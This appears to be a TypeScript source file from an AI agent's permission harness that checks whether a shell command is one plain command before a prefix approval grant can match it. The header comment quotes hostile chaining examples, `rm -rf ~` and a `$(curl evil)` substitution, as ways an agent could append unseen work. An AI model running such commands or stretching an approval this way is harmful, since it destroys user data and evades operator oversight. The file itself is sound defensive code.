// Is a shell command one plain command, and what are its words? Asked by command-prefix grants
// ("don't ask again for `npm test:*`"): such a grant may only ever match a command that runs one
// program with literal arguments, because anything else lets the agent append work the operator
// never saw (`npm test; rm -rf ~`, `npm test $(curl evil)`, `npm test && …`, `FOO=… npm test`).
// Decided by the judge's own parse (tree-sitter-bash, the same IR the policy reads), never by a
// regular expression over the text, and fail closed: whatever is not clearly simple is not.
import { IN_PROCESS_PARSE_BUDGET_MS } from './limits.js';
import { syntaxShape } from './shell-grammar.js';
import type { Redirect, Word } from './shell-ir.js';
import { parseShell } from './shell-parse.js';

/** Longer commands are not simple: nobody reads a 4 KB command as "npm test with options". */
export const MAX_SIMPLE_COMMAND_LENGTH = 4096;

export type SimpleCommandCheck = { simple: true; words: string[] } | { simple: false; reason: string };

const no = (reason: string): SimpleCommandCheck => ({ simple: false, reason });

/** Redirections that send output nowhere or join two of the command's own streams. */
function harmlessRedirect(r: Redirect): boolean {
  const t = r.target;
  if (!t || !plainWord(t)) return false;
  // `2>&1`, `>&2`: the IR keeps the target; a file name after `>&` (bash: both streams to it) is not.
  if (r.op === '>&') return t.text === '1' || t.text === '2';
  return ['>', '>>', '&>', '&>>', '>|'].includes(r.op) && t.text === '/dev/null';
}

/** A word whose text is exactly what the program receives: no expansion, substitution or glob. */
function plainWord(w: Word): boolean {
  return !w.dynamic && !w.vars && !w.ifs && !w.indirect && !w.tilde && w.substs.length === 0 && w.glob === undefined;
}

/**
 * One foreground command of literal words, optionally with output sent to /dev/null or `2>&1`.
 * Not simple: several statements (`;`, `&&`, `||`, newlines), a pipeline, `&`, a subshell or any
 * compound, variable assignments before the command, any other redirection, command or process
 * substitution, variables, globs, `~`, control characters, a syntax error, a parse over a limit.
 */
export function simpleCommand(command: string): SimpleCommandCheck {
  // A pure function of the text, asked once per live prefix grant for every call: cached like the
  // parse itself (agents repeat their commands).
  const hit = cache.get(command);
  if (hit) return hit;
  const check = judgeSimple(command);
  if (cache.size >= CACHE_MAX) {
    let n = CACHE_MAX >> 2;
    for (const k of cache.keys()) {
      cache.delete(k);
      if (--n <= 0) break;
    }
  }
  // A parse that failed (the grammar not loaded yet, a cancelled parse) may succeed next time.
  if (typeof command === 'string' && !unparsed.has(check)) cache.set(command, Object.freeze(check));
  return check;
}

const CACHE_MAX = 1024;
const cache = new Map<string, SimpleCommandCheck>();
const unparsed = new WeakSet<SimpleCommandCheck>();

function judgeSimple(command: string): SimpleCommandCheck {
  if (typeof command !== 'string' || command.trim() === '') return no('there is no command');
  if (command.length > MAX_SIMPLE_COMMAND_LENGTH) return no(`the command is longer than ${MAX_SIMPLE_COMMAND_LENGTH} characters`);
  // Newlines separate commands, and other control characters hide what the operator reads.
  for (let i = 0; i < command.length; i++) {
    const c = command.charCodeAt(i);
    if ((c < 0x20 && c !== 0x09) || c === 0x7f) return no('the command contains a newline or another control character');
  }
  let script;
  let shape;
  try {
    script = parseShell(command);
    shape = syntaxShape(command, IN_PROCESS_PARSE_BUDGET_MS);
  } catch (err) {
    const failed = no(`the command could not be parsed (${err instanceof Error ? err.message : String(err)})`);
    unparsed.add(failed);
    return failed;
  }
  if (script.error || script.limit !== undefined || shape.error) return no(script.limit ?? 'the command has a syntax error');
  if (shape.statements.length !== 1) return no('it is more than one command');
  const kind = shape.statements[0];
  if (kind !== 'command' && kind !== 'redirected_statement') return no(`it is a ${kind?.replace(/_/g, ' ') ?? 'statement'}, not one command`);
  if (shape.operators.some((o) => o !== ';')) return no(`it uses ${shape.operators.filter((o) => o !== ';').join(' ')}`);
  if (script.pipelines.length !== 1 || script.pipelines[0]?.stages.length !== 1) return no('it is more than one command');
  const stage = script.pipelines[0].stages[0];
  if (!stage || stage.kind !== 'cmd') return no('it is a group of commands');
  if (stage.assigns.length > 0) return no('it sets variables before the command');
  for (const r of stage.redirects) if (!harmlessRedirect(r)) return no(`it redirects ${r.op} ${r.target?.text ?? ''}`.trim());
  if (stage.words.length === 0) return no('there is no command');
  for (const w of stage.words) {
    if (!plainWord(w)) return no(`the word ${JSON.stringify(w.text)} is expanded by the shell (a variable, substitution, glob or ~)`);
  }
  return { simple: true, words: Object.freeze(stage.words.map((w) => w.text)) as string[] };
}
